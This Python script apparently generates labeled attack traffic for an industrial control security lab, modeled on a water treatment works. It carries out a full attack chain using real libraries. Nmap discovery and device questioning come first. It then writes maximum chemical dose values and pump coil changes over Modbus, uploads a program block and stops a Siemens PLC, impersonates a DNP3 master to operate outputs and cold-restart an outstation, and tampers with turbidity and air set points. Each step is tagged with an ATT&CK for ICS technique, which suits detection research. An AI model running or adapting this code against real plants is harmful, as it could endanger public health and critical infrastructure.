"""The attack: a contractor's laptop finds what is there, asks who it is, and then changes it.

Techniques are one reading of ATT&CK for ICS; the order is discovery, collection, impact.
"""

import time

import snap7
import works
from journal import Done, Journal
from pylogix import PLC
from pymodbus.client import ModbusTcpClient

from actors import questions, tools
from actors.bacnet_client import Client as BacnetClient
from actors.dnp3_master import Master

PORTS = (21, 22, 23, 80, 102, 443, 502, 2404, 4840, 20000, 44818)

journal = Journal("kx-field-07", "attack")


def find() -> None:
    """An ARP sweep of the subnet, then a port scan of what answered (half-open: nothing is logged by the devices)."""
    sweep = Done(protocol="arp", operation="Sweep", effect="discover", technique="T0846", detail={"subnet": works.SUBNET})
    journal.run(works.SUBNET, sweep, lambda: tools.command("nmap", "-n", "-sn", "-T4", works.SUBNET))
    targets = [host.ip for host in works.HOSTS if host.name != journal.source]
    scan = Done(protocol="tcp", operation="Port scan", effect="discover", technique="T0846", detail={"ports": list(PORTS)})
    ports = ",".join(str(port) for port in PORTS)
    journal.run(works.SUBNET, scan, lambda: tools.command("nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1", "-p", ports, *targets))


def ask(bacnet: BacnetClient) -> None:
    """Who is it? Every device, in its own protocol."""
    questions.cip(journal)
    questions.modbus(journal, "plc-dosing", 1)
    for unit in works.BY_NAME["gw-meters"].units:
        questions.modbus(journal, "gw-meters", unit)
    questions.bacnet(journal, bacnet, "ahu-hall")
    for community in ("public", works.COMMUNITY):
        questions.snmp(journal, "sw-hall-1", community)


def spoil_dosing() -> None:
    """Sets the dose to its greatest, switches every pump, and restarts the controller's communication."""
    with ModbusTcpClient(works.address("plc-dosing")) as client:

        def done(operation: str, code: int, technique: str, effect: str = "write", **detail: object) -> Done:
            detail = {"function_code": code, "unit": 1, **detail}
            return Done(protocol="modbus", operation=operation, effect=effect, technique=technique, detail=detail)

        single = done("Write Single Register", 6, "T0836", address=40, values=[999])
        journal.run("plc-dosing", single, lambda: client.write_register(40, 999, device_id=1))
        many = done("Write Multiple Registers", 16, "T0836", address=40, values=[999, 999, 0, 0])
        journal.run("plc-dosing", many, lambda: client.write_registers(40, [999, 999, 0, 0], device_id=1))
        for coil in range(8):
            switch = done("Write Single Coil", 5, "T0806", address=coil, values=[coil % 2 == 0])
            journal.run("plc-dosing", switch, lambda coil=coil: client.write_coil(coil, coil % 2 == 0, device_id=1))
            time.sleep(0.1)
        off = done("Write Multiple Coils", 15, "T0855", address=0, values=[False] * 8)
        journal.run("plc-dosing", off, lambda: client.write_coils(0, [False] * 8, device_id=1))


def stop_intake() -> None:
    """Takes a block of the intake controller home, changes a value, and stops the CPU."""
    client = snap7.client.Client()
    connect = Done(protocol="s7comm", operation="Setup communication", effect="discover", technique="T0846", detail={"rack": 0, "slot": 2})
    journal.run("plc-intake", connect, lambda: client.connect(works.address("plc-intake"), 0, 2))
    questions.s7(journal, "plc-intake", client)
    up = Done(protocol="s7comm", operation="Upload", effect="program_upload", technique="T0845", detail={"block": "DB1"})
    journal.run("plc-intake", up, lambda: client.upload(1))
    detail = {"area": "DB", "db": 20, "start": 4, "size": 2}
    write = Done(protocol="s7comm", operation="Write Var", effect="write", technique="T0836", detail=detail)
    journal.run("plc-intake", write, lambda: client.db_write(20, 4, bytearray(b"\x00\x00")))
    stop = Done(protocol="s7comm", operation="PLC stop", effect="stop", technique="T0858")
    journal.run("plc-intake", stop, client.plc_stop)
    client.disconnect()


def pose_as_master() -> None:
    """Opens a second master session (the outstation drops the first), operates two outputs, silences and restarts the outstation."""
    name = "rtu-spring"
    session = Master(name)
    addresses = {"master": works.DNP3_MASTER, "outstation": int(works.says(name, "dnp3")["dnp3_address"])}

    def done(operation: str, code: int, effect: str, technique: str, **detail: object) -> Done:
        detail = {"function_code": code, **addresses, **detail}
        return Done(protocol="dnp3", operation=operation, effect=effect, technique=technique, detail=detail)

    journal.run(name, done("Read", 1, "read", "T0848", classes="0123"), session.open)
    direct = done("Direct Operate", 5, "operate", "T0855", index=0, on=False)
    journal.run(name, direct, lambda: session.direct_operate(0, on=False))
    selected = done("Select, Operate", 4, "operate", "T0855", index=2, on=False)
    journal.run(name, selected, lambda: session.select_operate(2, on=False))
    journal.run(name, done("Disable Unsolicited", 21, "configure", "T0804"), session.disable_unsolicited)
    journal.run(name, done("Cold Restart", 13, "reset", "T0816"), session.cold_restart)
    session.close()


def spoil_filter(bacnet: BacnetClient) -> None:
    """A wrong turbidity limit for the filter, a wrong set point for the air."""
    with PLC(works.address("plc-filter")) as plc:
        limit = Done(
            protocol="cip", operation="Write Tag", effect="write", technique="T0836", detail={"tag": "Turbidity_SP", "value": 99.0}
        )
        journal.run("plc-filter", limit, lambda: plc.Write("Turbidity_SP", 99.0))
    detail = {"object": "analog-value,1", "property": "present-value", "value": 45.0, "priority": 1}
    warm = Done(protocol="bacnet", operation="WriteProperty", effect="write", technique="T0836", detail=detail)
    journal.run("ahu-hall", warm, lambda: bacnet.write("ahu-hall", "analog-value,1", 45.0, 1))


def main() -> None:
    bacnet = BacnetClient("kx-field-07")
    find()
    ask(bacnet)
    spoil_dosing()
    pose_as_master()
    spoil_filter(bacnet)
    stop_intake()


if __name__ == "__main__":
    main()
